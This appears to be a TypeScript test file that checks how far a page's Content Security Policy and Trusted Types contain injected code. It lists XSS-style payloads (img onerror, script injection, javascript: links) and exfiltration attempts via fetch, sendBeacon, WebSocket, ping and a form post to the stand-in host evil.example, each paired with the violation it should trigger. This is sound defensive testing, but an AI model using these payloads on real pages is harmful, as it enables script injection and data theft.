/** Something got into our page after all: what the policy still keeps it from. */

import { type Attack, otherwise } from './attack.ts'

/** Runs as the page's own code would, not as what a debugger says: the latter is let through the policy. */
const asPage = (work: string): string =>
  `return within(new Promise((done) => setTimeout(() => { try { done(String(${work})) } catch (error) { done(error.name) } })))`

/** What the policy said of an element that was put into the page. */
const violated = (work: string): string => `const said = []
  addEventListener('securitypolicyviolation', ({ effectiveDirective }) => said.push(effectiveDirective))
  ${work}
  for (let at = 0; at < 40 && said.length === 0; at += 1) await pause(50)
  await pause(50)
  return [...new Set(said)].sort().join()`

const evil = 'http://evil.example:1/'

const code: readonly (readonly [string, string, string])[] = [
  ['runs a text as code', asPage(`eval('1')`), 'EvalError'],
  ['makes a function of a text', asPage(`new Function('return 1')()`), 'EvalError'],
  ['gives a timer a text', asPage(`setTimeout('window.ran = 1')`), 'TypeError'],
  ['writes markup into an element', asPage(`(document.body.innerHTML = '<img src=x onerror=alert(1)>')`), 'TypeError'],
  ['writes markup beside an element', asPage(`document.body.insertAdjacentHTML('beforeend', '<b>x</b>')`), 'TypeError'],
  ['writes into the document', asPage(`document.write('<b>x</b>')`), 'TypeError'],
  ['makes a fragment of markup', asPage(`document.createRange().createContextualFragment('<b>x</b>')`), 'TypeError'],
  [
    'makes a policy of its own for trusted types',
    asPage(`window.trustedTypes.createPolicy('x', { createHTML: String })`),
    'TypeError',
  ],
  [
    'parses a document out of markup',
    asPage(`new DOMParser().parseFromString('<script>alert(1)</script>', 'text/html')`),
    'TypeError',
  ],
  ['starts a worker from a text', asPage(`new Worker(URL.createObjectURL(new Blob(['1'])))`), 'TypeError'],
  [
    'leads the page to javascript:',
    violated(
      `const link = document.createElement('a'); try { link.href = 'javascript:alert(1)'; document.body.append(link); link.click() } catch (e) { said.push(e.name) }`,
    ),
    'script-src-elem',
  ],
]

const elements: readonly (readonly [string, string, string])[] = [
  [
    'a script inline',
    violated(
      `const one = document.createElement('script'); try { one.textContent = 'alert(1)' } catch (e) { said.push(e.name) } document.body.append(one)`,
    ),
    'TypeError,require-trusted-types-for',
  ],
  [
    'a handler',
    violated(
      `try { document.body.setAttribute('onclick', 'alert(1)') } catch (e) { said.push(e.name) } document.body.click()`,
    ),
    'TypeError,require-trusted-types-for',
  ],
  [
    'a style inline',
    violated(`document.body.append(Object.assign(document.createElement('style'), { textContent: '*{color:red}' }))`),
    'style-src-elem',
  ],
  ['a style as an attribute', violated(`document.body.setAttribute('style', 'color: red')`), 'style-src-attr'],
  [
    'somebody’s script',
    violated(
      `const one = document.createElement('script'); try { one.src = '${evil}x.js' } catch (e) { said.push(e.name) } document.body.append(one)`,
    ),
    'TypeError,require-trusted-types-for',
  ],
  ['somebody’s style', violated(`put('link', { rel: 'stylesheet', href: '${evil}' })`), 'style-src-elem'],
  ['somebody’s picture', violated(`put('img', { src: '${evil}' })`), 'img-src'],
  ['somebody’s font', violated(`new FontFace('x', 'url(${evil})').load().catch(() => undefined)`), 'font-src'],
  ['somebody’s frame', violated(`put('iframe', { src: '${evil}' })`), 'frame-src'],
  [
    'a frame with a text of its own',
    violated(`put('iframe', { srcdoc: '<b>x</b>' }).catch((e) => said.push(e.name))`),
    'TypeError,require-trusted-types-for',
  ],
  [
    'an object',
    violated(`put('object', { data: '${evil}' }).catch((e) => said.push(e.name))`),
    'TypeError,require-trusted-types-for',
  ],
  ['somebody’s video', violated(`put('video', { src: '${evil}' })`), 'media-src'],
  ['another base for addresses', violated(`put('base', { href: '${evil}' })`), 'base-uri'],
  [
    'a form that leads elsewhere',
    violated(
      `const form = Object.assign(document.createElement('form'), { action: '${evil}', method: 'post' }); document.body.append(form); form.submit()`,
    ),
    'form-action',
  ],
]

const outwards: readonly (readonly [string, string, string])[] = [
  ['fetches from somebody', violated(`fetch('${evil}').catch(() => undefined)`), 'connect-src'],
  ['tells somebody by a beacon', violated(`navigator.sendBeacon('${evil}', 'secret')`), 'connect-src'],
  [
    'opens a line to somebody',
    violated(`try { new WebSocket('ws://evil.example:1/') } catch (e) { said.push(e.name) }`),
    'connect-src',
  ],
  ['listens to somebody', violated(`new EventSource('${evil}')`), 'connect-src'],
  [
    'tells somebody by a ping',
    violated(
      `const link = Object.assign(document.createElement('a'), { href: '#/history', ping: '${evil}' }); document.body.append(link); link.click()`,
    ),
    'connect-src',
  ],
  ['fetches ahead from somebody', violated(`put('link', { rel: 'prefetch', href: '${evil}' })`), 'default-src'],
  [
    'asks another port of this computer',
    violated(`fetch('http://127.0.0.1:1/').catch(() => undefined)`),
    'connect-src',
  ],
]

export const injected: readonly Attack[] = [
  ...code.map(
    ([tries, act, sees]): Attack => ({
      tries: `our page ${tries}`,
      from: 'inside',
      act,
      sees,
      arrives: [],
      without: { headers: otherwise },
    }),
  ),
  ...elements.map(
    ([what, act, sees]): Attack => ({ tries: `our page is given ${what}`, from: 'inside', act, sees, arrives: [] }),
  ),
  ...outwards.map(
    ([tries, act, sees]): Attack => ({ tries: `our page ${tries}`, from: 'inside', act, sees, arrives: [] }),
  ),
  {
    tries: 'our page is taken over by a service worker of another port',
    from: 'port',
    act: `await navigator.serviceWorker.register('/worker.js')
      await navigator.serviceWorker.ready
      return 'registered'`,
    // For its own port, which is another origin.
    sees: 'registered',
    arrives: [],
  },
  {
    tries: 'a service worker that was registered elsewhere answers for our page',
    from: 'inside',
    act: `return (await navigator.serviceWorker.getRegistrations()).length + ' ' + String(navigator.serviceWorker.controller)`,
    sees: '0 null',
    arrives: [],
  },
  {
    tries: 'our page registers a service worker from a text',
    from: 'inside',
    act: `return navigator.serviceWorker.register(URL.createObjectURL(new Blob(['1'], { type: 'text/javascript' }))).then(() => 'registered', (e) => e.name)`,
    sees: 'TypeError',
    arrives: [],
  },
  {
    tries: 'reads what our page keeps, from another port',
    from: 'port',
    act: `return [sessionStorage.length, localStorage.length, (await indexedDB.databases()).length, (await caches.keys()).length].join()`,
    sees: '0,0,0,0',
    arrives: [],
  },
]
